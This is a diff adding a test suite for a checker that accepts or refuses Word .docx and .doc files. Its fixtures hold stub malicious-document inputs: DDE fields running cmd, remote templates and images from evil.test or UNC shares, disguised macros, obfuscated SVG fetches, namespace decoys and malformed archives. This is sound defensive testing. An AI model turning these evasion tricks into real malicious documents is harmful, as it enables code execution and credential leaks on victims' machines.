@@ -1,0 +1,385 @@
+import { describe, expect, it } from 'vitest';
+import {
+  aCompoundFile,
+  aDoc,
+  aDocx,
+  aRelation,
+  aZip,
+  contentTypes,
+  WORD_PARTS,
+  wordBody,
+} from '../../testing/documents.ts';
+import { Budget } from '../budget.ts';
+import { checkDoc } from './doc-check.ts';
+import { checkDocx } from './docx-check.ts';
+import { DocumentObjection, type Objection } from '../objections.ts';
+
+const objectionTo = (check: () => void): Objection | null => {
+  try {
+    check();
+    return null;
+  } catch (error) {
+    if (error instanceof DocumentObjection) return error.objection;
+    throw error;
+  }
+};
+const toDocx = (docx: Buffer) => objectionTo(() => checkDocx(docx, new Budget()));
+const toDoc = (doc: Buffer) => objectionTo(() => checkDoc(doc, new Budget()));
+
+const RELATIONS = 'word/_rels/document.xml.rels';
+const PNG = Buffer.from('\x89PNG\r\n\x1a\n…', 'latin1');
+const OLE = Buffer.from('d0cf11e0a1b11ae1', 'hex');
+const withBody = (body: string) => aDocx({ 'word/document.xml': wordBody(body) });
+const run = (inside: string) => `<w:r>${inside}</w:r>`;
+/** A field as Word stores it. @param codes what each run has of its code */
+const field = (...codes: string[]) =>
+  `<w:p>${run('<w:fldChar w:fldCharType="begin"/>')}${codes.map((code) => run(`<w:instrText>${code}</w:instrText>`)).join('')}${run('<w:fldChar w:fldCharType="separate"/>')}${run('<w:t>1</w:t>')}${run('<w:fldChar w:fldCharType="end"/>')}</w:p>`;
+const ofKind = (name: string, kind: string, content: string | Buffer) =>
+  aDocx({
+    '[Content_Types].xml': contentTypes(`<Override PartName="/${name}" ContentType="${kind}"/>`),
+    [name]: content,
+  });
+const utf16 = (text: string) => Buffer.from(`\ufeff${text.replace('UTF-8', 'UTF-16')}`, 'utf16le');
+
+const drawing = (inside: string) =>
+  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inside}</svg>`;
+
+describe('takes a document of Word', () => {
+  it.each<[string, Buffer]>([
+    ['of one paragraph', aDocx()],
+    ['with a link', aDocx({ [RELATIONS]: aRelation('hyperlink', 'https://asociacion.test') })],
+    ['with a mail link', aDocx({ [RELATIONS]: aRelation('hyperlink', 'mailto:ana@x.test') })],
+    [
+      'with page numbers and a table of contents',
+      withBody(field(' PAGE ') + field(' TOC \\o "1-3" \\h \\z \\u ') + field('HYPERLINK \\l "_Toc1"')),
+    ],
+    ['with a linked word', withBody(field(' HYPERLINK "https://asociacion.test" \\o "Vea: aquí" '))],
+    ['with a place to type in', withBody(field('MACROBUTTON NoMacro [nombre]'))],
+    ['with a picture', ofKind('word/media/firma.png', 'image/png', PNG)],
+    ['with a part in UTF-16', aDocx({ 'word/document.xml': utf16(wordBody('<w:p/>')) })],
+    [
+      'with a signature',
+      ofKind(
+        '_xmlsignatures/origin.sigs',
+        'application/vnd.openxmlformats-package.digital-signature-origin',
+        '',
+      ),
+    ],
+    [
+      'with a drawing that uses its own parts',
+      ofKind(
+        'word/media/a.svg',
+        'image/svg+xml',
+        drawing(
+          `<style>.a{fill:url(#g)} @media print{.b{fill:url( "#g" )}}</style><a href="https://a.test"><rect style="stroke:url('#g')" transform="rotate(3)"/></a><image href="data:image/png;base64,AA"/><use xlink:href="#g"/>`,
+        ),
+      ),
+    ],
+    [
+      'with data of its maker',
+      aDocx({ 'customXml/item1.xml': '<datos><poder href="https://a.test">1</poder></datos>' }),
+    ],
+  ])('%s', (_, docx) => {
+    expect(toDocx(docx)).toBeNull();
+  });
+});
+
+describe('refuses a document of Word', () => {
+  it.each<[string, Buffer, Objection?]>([
+    ...[
+      '<rect style="fill:url(http://evil.test/#a)"/>',
+      '<rect fill="url(&apos;//evil.test/#a&apos;)"/>',
+      '<style>@import "http://evil.test/a.css";</style>',
+      '<style><![CDATA[rect{background:u\\72l(http://evil.test)}]]></style>',
+      '<style>rect{fill:ur/**/l(a)} @im<g/>port "a"</style>',
+      '<style>rect{background:image-set("http://evil.test" 1x)}</style>',
+      '<image href="../a.png"/>',
+      '<image><set attributeName="xlink:href" to="//evil.test/a"/></image>',
+      '<g xml:base="http://evil.test/"/>',
+    ].map((inside): [string, Buffer] => [
+      `with a drawing that fetches: ${inside}`,
+      ofKind('word/media/a.svg', 'image/svg+xml', drawing(inside)),
+    ]),
+    [
+      'with a drawing within another element',
+      ofKind('word/a.xml', 'image/svg+xml', `<x>${drawing('<g onload="a()"/>')}</x>`),
+    ],
+    [
+      'with a kind of macros for a name that is written in codes',
+      aDocx({
+        '[Content_Types].xml': contentTypes(
+          '<Override PartName="/word/%76ba.xml" ContentType="application/vnd.ms-office.vbaProject"/>',
+        ),
+        'word/vba.xml': '<a/>',
+      }),
+    ],
+    [
+      'with a picture from elsewhere in codes that are no UTF-8',
+      aDocx({ [RELATIONS]: aRelation('image', 'http%3a//evil.test/%ff', false) }),
+    ],
+    [
+      'with a linked picture of old drawings',
+      withBody('<v:imagedata xmlns:v="urn:v" xmlns:o="urn:o" o:href="http://evil.test/a.png"/>'),
+    ],
+    [
+      'with an encoding that is told late',
+      aDocx({
+        'word/document.xml': wordBody('<w:p/>').replace(
+          'encoding="UTF-8"',
+          `${' '.repeat(300)}encoding="UTF-7"`,
+        ),
+      }),
+      'unreadable',
+    ],
+    ...[
+      'attachedTemplate',
+      'oleObject',
+      'frame',
+      'image',
+      'subDocument',
+      'mailMergeSource',
+      'aFChunk',
+      'package',
+      'neu',
+    ].map((type): [string, Buffer] => [
+      `with a relationship ${type} to elsewhere`,
+      aDocx({ [RELATIONS]: aRelation(type, 'https://evil.test/a') }),
+    ]),
+    [
+      'with a template on a share',
+      aDocx({ 'word/_rels/settings.xml.rels': aRelation('attachedTemplate', 'file://evil.test/a.dotm') }),
+    ],
+    [
+      'with a relationship in a place of its own',
+      aDocx({ 'a/b/c.RELS': aRelation('attachedTemplate', 'https://evil.test/a') }),
+    ],
+    [
+      'with a relationship that says it is internal',
+      aDocx({ [RELATIONS]: aRelation('image', 'https://evil.test/a.png', false) }),
+    ],
+    [
+      'with a relationship in UTF-16',
+      aDocx({ [RELATIONS]: utf16(aRelation('attachedTemplate', 'https://evil.test/a')) }),
+    ],
+    [
+      'with a relationship in UTF-7',
+      aDocx({
+        [RELATIONS]: `<?xml version="1.0" encoding="UTF-7"?>${aRelation('hyperlink', 'https://a.test')}`,
+      }),
+      'unreadable',
+    ],
+    [
+      'with a relationship spelt in references',
+      aDocx({ [RELATIONS]: aRelation('attached&#84;emplate', 'https://evil.test/a') }),
+    ],
+    ['with a link to a share', aDocx({ [RELATIONS]: aRelation('hyperlink', '\\\\evil.test\\a') })],
+    ['with a link to a file', aDocx({ [RELATIONS]: aRelation('hyperlink', 'file:///c:/a.exe') })],
+    ['with macros under another name', ofKind('word/foto.png', 'application/vnd.ms-office.vbaProject', OLE)],
+    ['with macros under another kind', ofKind('word/media/foto.png', 'image/png', OLE)],
+    [
+      'with macros under a kind that is not looked into',
+      ofKind(
+        'word/a.bin',
+        'application/vnd.openxmlformats-officedocument.wordprocessingml.printerSettings',
+        OLE,
+      ),
+    ],
+    ['with macros without a kind', aDocx({ 'word/a.dat': OLE })],
+    [
+      'with a document of macros as its main part',
+      aDocx({
+        '[Content_Types].xml': contentTypes('', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
+      }),
+    ],
+    [
+      'with a control',
+      ofKind('word/activeX/activeX1.xml', 'application/vnd.ms-office.activeX+xml', '<ax:ocx xmlns:ax="a"/>'),
+    ],
+    ['with a page to show in it', ofKind('word/a.htm', 'text/html', '<p>a</p>')],
+    [
+      'with an object of another program',
+      withBody('<w:object><o:OLEObject xmlns:o="o" Type="Link"/></w:object>'),
+    ],
+    [
+      'with a picture of VML from elsewhere',
+      withBody('<w:pict><v:imagedata xmlns:v="v" src="\\\\evil.test\\a.png"/></w:pict>'),
+    ],
+    ...(
+      [
+        ['Target', 'https://evil.test/a', 'a.xml'],
+        ['TargetMode', 'External', 'Internal'],
+        ['Type', 'http://a/attachedTemplate', 'http://a/styles'],
+      ] as const
+    ).map(([name, real, decoy]): [string, Buffer] => [
+      `with a relationship whose ${name} is hidden by one of another namespace`,
+      aDocx({
+        [RELATIONS]: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships" xmlns:x="urn:x"><Relationship Id="rId9" ${Object.entries(
+          { Type: 'http://a/image', Target: 'media/a.png', [name]: real },
+        )
+          .map(([key, value]) => `${key}="${value}"`)
+          .join(' ')} x:${name}="${decoy}"/></Relationships>`,
+      }),
+    ]),
+    [
+      'with DDE in a simple field that another attribute hides',
+      withBody('<w:fldSimple w:instr="DDEAUTO cmd a" xmlns:x="urn:x" x:instr="PAGE"/>'),
+    ],
+    [
+      'with DDE behind a code of another namespace',
+      withBody(
+        field('DDEAUTO cmd a').replace(
+          '<w:instrText>',
+          '<x:instrText xmlns:x="urn:x">PAGE </x:instrText><w:instrText>',
+        ),
+      ),
+    ],
+    [
+      'with a kind of its main part that another attribute hides',
+      aDocx({
+        '[Content_Types].xml': contentTypes(
+          '',
+          'application/vnd.ms-word.document.macroEnabled.main+xml',
+        ).replace(
+          'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"',
+          'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml" xmlns:x="urn:x" x:ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"',
+        ),
+      }),
+    ],
+    [
+      'with a picture of VML that another attribute hides',
+      withBody(
+        '<w:pict><v:imagedata xmlns:v="v" xmlns:x="urn:x" src="https://evil.test/a" x:src="a.png"/></w:pict>',
+      ),
+    ],
+    ['with DDE', withBody(field(' DDE cmd "/c calc" '))],
+    ['with DDE in several runs', withBody(field(' D', 'DE', 'AUTO c:\\\\a.exe "a" '))],
+    ['with DDE in a simple field', withBody('<w:fldSimple w:instr=" ddeauto cmd a "/>')],
+    [
+      'with DDE in shown text of a code',
+      withBody(
+        field(' D').replace(
+          '</w:r><w:r><w:fldChar w:fldCharType="separate"',
+          '</w:r><w:r><w:t>DE cmd a</w:t></w:r><w:r><w:fldChar w:fldCharType="separate"',
+        ),
+      ),
+    ],
+    [
+      'with a field that another computes',
+      withBody(
+        `<w:p>${run('<w:fldChar w:fldCharType="begin"/>')}${field('QUOTE 68 68 69')}${run('<w:instrText> cmd a</w:instrText>')}${run('<w:fldChar w:fldCharType="end"/>')}</w:p>`,
+      ),
+    ],
+    ['with DDE in a heading', aDocx({ 'word/header9.xml': wordBody(field('DDEAUTO cmd a')) })],
+    [
+      'with a field without an end',
+      withBody(`${run('<w:fldChar w:fldCharType="begin"/>')}${run('<w:instrText>DDE cmd a</w:instrText>')}`),
+    ],
+    ['with a field without a beginning', withBody(run('<w:instrText>DDE cmd a</w:instrText>'))],
+    ['with a picture that a field fetches', withBody(field('INCLUDEPICTURE "https://evil.test/a.png"'))],
+    ['with a link of a field to a share', withBody(field('HYPERLINK "\\\\\\\\evil.test\\\\a"'))],
+    ['with the macro of a button', withBody(field('MACROBUTTON AutoOpen clic'))],
+    [
+      'with entities of its own',
+      aDocx({ 'word/document.xml': `<!DOCTYPE a [<!ENTITY b "c">]>${wordBody('')}` }),
+    ],
+    [
+      'with a drawing that runs',
+      ofKind('word/media/a.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" onload="a()"/>'),
+    ],
+    [
+      'with a drawing that fetches',
+      ofKind(
+        'word/media/a.svg',
+        'image/svg+xml',
+        '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.test/a"/></svg>',
+      ),
+    ],
+    ['with a part in a place outside', aDocx({ '../a.xml': '<a/>' })],
+    ['with two parts of one name', aDocx({ 'WORD/document.xml': wordBody(field('DDE a b')) })],
+    ['with something before it', Buffer.concat([Buffer.from('PK\x03\x04'), aDocx()]), 'unreadable'],
+    ['with something behind it', Buffer.concat([aDocx(), Buffer.from('MZ')]), 'unreadable'],
+    ['of nests without an end', withBody('<w:a>'.repeat(1000)), 'unreadable'],
+  ])('%s', (_, docx, objection = 'active') => {
+    expect(toDocx(docx)).toBe(objection);
+  });
+
+  it('that unpacks to more than it may, whichever part and however small each is', () => {
+    const bounds = { inflated: 2 ** 20, steps: 100_000, characters: 2 ** 20 };
+    const part = `<a>${' '.repeat(2 ** 18)}</a>`;
+    const parts = Object.fromEntries(Array.from({ length: 9 }, (_, index) => [`word/a${index}.xml`, part]));
+    for (const docx of [
+      aDocx(parts),
+      withBody('<w:p/>'.repeat(150_000)),
+      withBody(`<w:t>${'&lt;'.repeat(300_000)}</w:t>`),
+      withBody(field(`HYPERLINK ${'\\o '.repeat(10_000)}`)),
+      withBody(`<w:p ${Array.from({ length: 1000 }, (_, index) => `a${index}="b"`).join(' ')}/>`),
+    ])
+      expect(() => checkDocx(docx, new Budget(bounds))).toThrow(
+        expect.objectContaining({ objection: 'excessive' }),
+      );
+  });
+
+  it('of which two entries share their bytes', () => {
+    const zip = aZip({ ...WORD_PARTS, 'word/a.xml': '<a/>', 'word/b.xml': '<a/>' });
+    const listed = zip.lastIndexOf('word/b.xml') - 4;
+    zip.writeUInt32LE(zip.indexOf('word/a.xml') - 30, listed);
+    expect(toDocx(zip)).toBe('unreadable');
+  });
+});
+
+describe('takes a document of old Word', () => {
+  it.each<[string, Buffer]>([
+    ['of one paragraph', aDoc()],
+    [
+      'with fields',
+      aDoc({ text: 'Página \x13 PAGE \x141\x15, \x13 HYPERLINK "https://a.test" \x01\x14aquí\x15\r' }),
+    ],
+    ['with a template of the own disk', aDoc({ template: 'C:\\Plantillas\\Normal.dot' })],
+    ['with a folder of objects that is empty', aDoc({ streams: { 'ObjectPool/': Buffer.alloc(0) } })],
+  ])('%s', (_, doc) => {
+    expect(toDoc(doc)).toBeNull();
+  });
+});
+
+describe('refuses a document of old Word', () => {
+  it.each<[string, Buffer, Objection?]>([
+    ['with macros', aDoc({ streams: { 'Macros/VBA/dir': Buffer.alloc(1) } })],
+    ['with macros under another name', aDoc({ streams: { 'Datos/a': Buffer.alloc(1) } })],
+    ['with an object', aDoc({ streams: { 'ObjectPool/_1/\x01Ole10Native': Buffer.alloc(1) } })],
+    ['with macros beside its signature', aDoc({ streams: { '_signatures/VBA': Buffer.alloc(1) } })],
+    ['with DDE', aDoc({ text: '\x13 DDEAUTO cmd "/c calc" \x14a\x15' })],
+    [
+      'with a picture that a field fetches',
+      aDoc({ text: '\x13INCLUDEPICTURE "\\\\\\\\evil.test\\\\a"\x15' }),
+    ],
+    ['with a template on a share', aDoc({ template: '\\\\evil.test\\a.dot' })],
+    ['with a template on the web', aDoc({ template: 'https://evil.test/a.dotm' })],
+    ['that is a template', aDoc({ flags: 1 })],
+    ['that is encrypted', aDoc({ flags: 0x0100 }), 'locked'],
+    ['of encrypted Word', aCompoundFile({ EncryptedPackage: Buffer.alloc(1) }), 'locked'],
+    ['that is a workbook', aCompoundFile({ Workbook: Buffer.alloc(1) }), 'unknown'],
+    ['that is cut', aDoc().subarray(0, 2000), 'unreadable'],
+  ])('%s', (_, doc, objection = 'active') => {
+    expect(toDoc(doc)).toBe(objection);
+  });
+
+  it('whose chains never end, share a sector or list themselves', () => {
+    const tableAt = 512;
+    for (const [at, next] of [
+      [4, 1],
+      [8, 2],
+      [12, 1],
+      [40, 2],
+    ] as const) {
+      const doc = aDoc();
+      doc.writeUInt32LE(next, tableAt + at);
+      expect(toDoc(doc)).toBe('unreadable');
+    }
+    const listing = aDoc();
+    listing.writeUInt32LE(0, 68);
+    expect(toDoc(listing)).toBe('unreadable');
+    const tree = aDoc();
+    tree.writeUInt32LE(1, tableAt + 512 + 128 + 72);
+    expect(toDoc(tree)).toBe('unreadable');
+  });
+});
